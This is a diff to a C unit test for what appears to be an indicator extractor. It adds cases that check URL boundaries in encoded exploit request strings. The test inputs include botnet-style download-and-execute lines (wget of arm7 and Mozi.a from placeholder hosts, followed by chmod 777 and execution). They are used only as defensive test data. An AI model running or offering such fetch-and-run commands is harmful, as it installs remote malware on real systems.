@@ -2614,6 +2614,20 @@ test_keyed_values(void **state)
 	    "url http://g.com/?ids=1,2 public\ndomain g.com public\n"
 	    "url http://h.com/a;sid=1,b public\ndomain h.com public\n"
 	    "url http://i.com/a,b public\ndomain i.com public\n");
+	/* an exploit's download line in an encoded request: the URL ends
+	 * where the shell's next command starts (a word and an encoded
+	 * blank, or a path); a path's parameters and a query's stay.
+	 * Before, "http://j.com/arm7;chmod%20777%20arm7;./arm7" whole. */
+	expect("wget%20http://j.com/arm7;chmod%20777%20arm7;./arm7) "
+	    "wget+http://k.com:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws "
+	    "http://l.com/a;./b http://m.com/a;b/c http://n.com/a;b=c+d "
+	    "http://o.com/s?q=a;chmod+1",
+	    "url http://j.com/arm7 public\ndomain j.com public\n"
+	    "url http://k.com:8088/Mozi.a public\ndomain k.com public\n"
+	    "url http://l.com/a public\ndomain l.com public\n"
+	    "url http://m.com/a;b/c public\ndomain m.com public\n"
+	    "url http://n.com/a;b=c+d public\ndomain n.com public\n"
+	    "url http://o.com/s?q=a;chmod+1 public\ndomain o.com public\n");
 }
 
 /* A host behind a scheme that is no web URL is an indicator all the
